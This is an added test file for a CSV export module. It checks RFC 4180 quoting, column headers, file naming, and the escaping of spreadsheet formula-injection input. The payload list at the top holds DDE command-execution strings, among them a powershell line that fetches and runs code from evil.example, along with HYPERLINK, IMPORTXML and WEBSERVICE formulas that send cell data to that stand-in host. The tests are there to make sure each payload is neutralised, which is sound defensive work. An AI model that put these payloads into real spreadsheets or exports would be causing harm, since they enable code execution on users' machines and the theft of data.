@@ -1,0 +1,123 @@
+// CSV files: names, columns, RFC 4180, and cells that no spreadsheet runs.
+import { expect, test } from 'vitest';
+import { csvCell, csvFileName, csvHead, csvLine } from './csv-rules.ts';
+
+// What attackers write into a form so that a spreadsheet runs it. Each must come out with an apostrophe in front.
+const payloads = [
+  '=1+1',
+  '=SUM(A1:A9)',
+  "=cmd|'/C calc'!A0",
+  "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+  '=IMPORTDATA("http://evil.example")',
+  '=IMPORTRANGE("key","A1")',
+  '=WEBSERVICE("http://evil.example/"&A1)',
+  '=IMAGE("http://evil.example/"&A1)',
+  '=DDE("cmd";"/C calc";"x")',
+  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!A0",
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+  '=INDIRECT("A1")',
+  '=CALL("kernel32","WinExec","JCJ","calc",0)',
+  '=EXEC("calc")',
+  '=@SUM(1)',
+  '==1',
+  '=',
+  '+1+1',
+  "+cmd|'/C calc'!A0",
+  '+91 98765 43210',
+  '+HYPERLINK("http://evil.example")',
+  '-1+1',
+  "-2+3+cmd|'/C calc'!A0",
+  '-',
+  '@SUM(1+1)',
+  "@cmd|'/C calc'!A0",
+  '@import',
+  '\t=1+1',
+  '\tplain',
+  '\r=1+1',
+  '\rplain',
+  '\n=1+1',
+  '\0=1+1',
+  '\0plain',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1+1)',
+];
+
+test('there are at least 40 payloads', () => {
+  expect(payloads.length).toBeGreaterThanOrEqual(40);
+});
+
+test.each(payloads)('%j begins with an apostrophe, and is otherwise as it was', (payload) => {
+  expect(readCell(csvCell(payload))).toBe(`'${payload}`);
+});
+
+test.each([
+  'Amoxicillin',
+  'सुनीता देवी',
+  '2-3 days',
+  'a = b',
+  '1+1',
+  "'already",
+  '"quoted"',
+  'a,b;c\td',
+  'two\r\nlines',
+  'x\n=1+1',
+  '',
+  '💊 =1',
+])('%j stays as it is', (text) => {
+  expect(readCell(csvCell(text))).toBe(text);
+});
+
+test('cells are quoted where RFC 4180 asks for it, and quotes doubled', () => {
+  expect(csvCell('plain')).toBe('plain');
+  expect(csvCell('a,b')).toBe('"a,b"');
+  expect(csvCell('say "no"')).toBe('"say ""no"""');
+  expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
+  expect(csvCell('=A1,"x"')).toBe('"\'=A1,""x"""');
+  expect([csvCell(null), csvCell(0), csvCell(-5), csvCell(true)]).toEqual(['', '0', '-5', 'true']);
+});
+
+test('a file begins with the byte-order mark and exactly the columns of its kind', () => {
+  expect(csvHead('adr-reports')).toBe(
+    '\ufeffname,age,contact,medicineName,symptoms,duration,message,createdAt\r\n',
+  );
+  expect(csvHead('contact-messages')).toBe('\ufeffname,email,message,createdAt\r\n');
+  expect(csvHead('drug-risks')).toBe('\ufeffdrugName,commonADRs,riskPercentage,isActive\r\n');
+});
+
+test('a line holds the columns in their order and nothing else of the record', () => {
+  const record = {
+    id: '1',
+    reference: 'ADR-2026-0000-0000',
+    createdAt: '2026-11-21T05:40:00.000Z',
+    message: null,
+    name: 'A. K.',
+    age: 0,
+    contact: '=1',
+    medicineName: 'Ibuprofen',
+    symptoms: 'Rash, itching',
+    duration: '2 days',
+  };
+  expect(csvLine('adr-reports', record)).toBe(
+    'A. K.,0,\'=1,Ibuprofen,"Rash, itching",2 days,,2026-11-21T05:40:00.000Z\r\n',
+  );
+});
+
+test('a file is named after its kind and the day where the administrator is', () => {
+  expect(csvFileName('adr-reports', new Date(2026, 0, 5, 0, 30))).toBe('adr-reports-2026-01-05.csv');
+  expect(csvFileName('contact-messages', new Date(2026, 10, 21, 23, 59))).toBe(
+    'contact-messages-2026-11-21.csv',
+  );
+});
+
+/** One cell as a reader after RFC 4180 takes it. */
+function readCell(cell: string): string {
+  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+}
